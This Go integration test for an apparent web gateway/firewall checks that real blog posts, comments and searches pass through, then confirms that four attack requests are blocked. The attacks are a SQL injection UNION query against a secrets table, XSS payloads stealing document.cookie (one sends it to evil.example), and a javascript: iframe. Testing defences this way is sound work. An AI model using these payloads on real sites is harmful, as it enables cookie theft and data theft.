package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bulwark-sec/bulwark/internal/corpus"
	"github.com/bulwark-sec/bulwark/internal/testutil"
)

// Real content through the gateway, as a blog receives it: articles (JSON,
// form, PUT), comments and searches carrying real documentation that quotes
// code, posted by a few authors to the example app's RealWorld-shaped API,
// then read back by slug. At most 1% is refused (issue 21's goal for the
// default configuration) and nobody is banned; the app's injection flaws
// stay blocked.
func TestRealContentPasses(t *testing.T) {
	if testing.Short() && os.Getenv("CI") == "" {
		t.Skip("slow: a real app and gateway (runs in CI)")
	}
	dir, err := corpus.Dir()
	if err != nil {
		testutil.RealPartMissing(t, err.Error())
	}
	cases, err := corpus.LoadContent(dir)
	if err != nil {
		t.Fatal(err)
	}
	const perClass = 40
	byClass := map[string][]corpus.Case{}
	for _, c := range cases {
		byClass[c.Group] = append(byClass[c.Group], c)
	}
	var sample []corpus.Case
	taken := map[string]int{}
	for i := range perClass { // spread over each class, deterministic, interleaved
		for _, cls := range []string{"article-json", "article-form", "article-put", "comment", "search"} {
			cs := byClass[cls]
			if len(cs) >= perClass {
				sample = append(sample, cs[i*(len(cs)/perClass)])
				taken[cls]++
			}
		}
	}
	if len(sample) != 5*perClass {
		t.Fatalf("sampled %v: is the corpus whole?", taken)
	}

	app := testutil.StartExpressApp(t)
	tmp := t.TempDir()
	pub := testutil.FreeAddr(t)
	cfg := filepath.Join(tmp, "bulwark.yaml")
	events := filepath.Join(tmp, "events.jsonl")
	body := fmt.Sprintf(`upstream: %s
listen: %s
admin: {listen: %s}
trustedProxies: [127.0.0.1]
store: {path: %s}
events: {output: %s}
`, app.URL(), pub, testutil.FreeAddr(t), filepath.Join(tmp, "bulwark.db"), events)
	if err := os.WriteFile(cfg, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	gw := startGateway(t, cfg, pub)
	base := "http://" + pub

	// send sends c's request (its method, headers and body) to path, from
	// the address of author a.
	send := func(a int, c corpus.Case, method, path string, body []byte) (int, []byte, http.Header) {
		t.Helper()
		req, _ := http.NewRequest(method, base+path, bytes.NewReader(body))
		for k, vs := range c.Header {
			req.Header[k] = vs
		}
		req.Host = c.Header.Get("Host")
		req.Header.Set("X-Forwarded-For", fmt.Sprintf("198.51.100.%d", a+1))
		resp, err := plainClient.Do(req)
		if err != nil {
			t.Fatalf("%s %s: %v", method, path, err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, b, resp.Header
	}
	postJSON := func(a int, c corpus.Case, path string, v any) (int, []byte) {
		b, _ := json.Marshal(v)
		c.Header = c.Header.Clone()
		c.Header.Set("Content-Type", "application/json")
		st, out, _ := send(a, c, "POST", path, b)
		return st, out
	}
	slugOf := func(b []byte) string {
		var r struct{ Article struct{ Slug string } }
		json.Unmarshal(b, &r)
		return r.Article.Slug
	}

	const authors = 8
	// Each author's own article, which their comments go to.
	host := make([]string, authors)
	for a := range authors {
		st, b := postJSON(a, sample[0], "/api/articles", map[string]any{"article": map[string]any{"title": fmt.Sprintf("Notes of author %d", a)}})
		if st != http.StatusCreated {
			t.Fatalf("author %d's article: %d %s", a, st, b)
		}
		host[a] = slugOf(b)
	}

	refused := map[string][]string{}
	for i, c := range sample {
		a := i % authors
		var st int
		var b []byte
		switch c.Group {
		case "article-json":
			if st, b, _ = send(a, c, "POST", "/api/articles", c.Body); st == http.StatusCreated {
				slug := slugOf(b)
				if got, back, _ := send(a, c, "GET", "/api/articles/"+slug, nil); got != http.StatusOK || !strings.Contains(string(back), slug) {
					t.Errorf("%s: GET /api/articles/%s = %d after posting it", c.ID, slug, got)
				}
			}
		case "article-form":
			var h http.Header
			if st, _, h = send(a, c, "POST", "/posts", c.Body); st == http.StatusFound {
				if got, _, _ := send(a, c, "GET", h.Get("Location"), nil); got != http.StatusOK {
					t.Errorf("%s: GET %s = %d after posting it", c.ID, h.Get("Location"), got)
				}
			}
		case "article-put":
			// The article it updates, created first with its title.
			var put struct{ Article map[string]any }
			json.Unmarshal(c.Body, &put)
			created, cb := postJSON(a, c, "/api/articles", map[string]any{"article": map[string]any{"title": put.Article["title"]}})
			if created != http.StatusCreated {
				st, b = created, cb
				break
			}
			st, b, _ = send(a, c, "PUT", "/api/articles/"+slugOf(cb), c.Body)
		case "comment":
			if st, b, _ = send(a, c, "POST", "/api/articles/"+host[a]+"/comments", c.Body); st == http.StatusCreated {
				if got, _, _ := send(a, c, "GET", "/api/articles/"+host[a]+"/comments", nil); got != http.StatusOK {
					t.Errorf("%s: reading the comments back: %d", c.ID, got)
				}
			}
		case "search":
			st, b, _ = send(a, c, "GET", c.Path, nil)
		default:
			t.Fatalf("%s: unknown class %q", c.ID, c.Group)
		}
		switch {
		case st == http.StatusForbidden:
			refused[c.Group] = append(refused[c.Group], c.ID)
		case st >= 400 && !(c.Group == "search" && st == http.StatusInternalServerError):
			// (the example app's search is vulnerable on purpose: a quote in
			// a real search is an SQL error, its own 500)
			t.Errorf("%s (%s): the app answered %d: %.200s", c.ID, c.Group, st, b)
		}
	}
	n := 0
	for cls, ids := range refused {
		n += len(ids)
		t.Logf("refused %d of %d %s: %v", len(ids), taken[cls], cls, ids)
	}
	t.Logf("real content refused: %d of %d (%.1f%%)", n, len(sample), 100*float64(n)/float64(len(sample)))
	if n*100 > len(sample) {
		t.Errorf("%d of %d real posts, comments and searches refused, want at most 1%%", n, len(sample))
	}
	if len(refused["search"]) > 0 {
		t.Errorf("searches refused: %v", refused["search"])
	}

	// The app's injection flaws stay blocked, in the same fields.
	attacker := corpus.Case{Header: http.Header{"User-Agent": {"Mozilla/5.0"}}}
	for _, a := range []struct {
		method, path, ctype, body string
	}{
		{"GET", "/search?q=%27%20UNION%20SELECT%20id%2C%20name%2C%20value%20FROM%20secrets--", "", ""},
		{"POST", "/api/articles/" + host[0] + "/comments", "application/json", `{"comment":{"body":"Great post! <img src=x onerror=alert(document.cookie)>"}}`},
		{"POST", "/api/articles", "application/json", `{"article":{"title":"hi","body":"Read this.\n\n<script>fetch('//evil.example/'+document.cookie)</script>"}}`},
		{"POST", "/posts", "application/x-www-form-urlencoded", "title=x&body=" + "%3Ciframe%20src%3Djavascript%3Aalert(1)%3E"},
	} {
		c := attacker
		c.Header = c.Header.Clone()
		if a.ctype != "" {
			c.Header.Set("Content-Type", a.ctype)
		}
		if st, _, _ := send(100, c, a.method, a.path, []byte(a.body)); st != http.StatusForbidden {
			t.Errorf("%s %s %s: %d, want 403", a.method, a.path, a.body, st)
		}
	}

	gw.stop(t)
	for a := range authors {
		ip := fmt.Sprintf("198.51.100.%d", a+1)
		if n := countEvents(t, events, "ban", ip); n > 0 {
			t.Errorf("author %s was banned", ip)
		}
	}
}
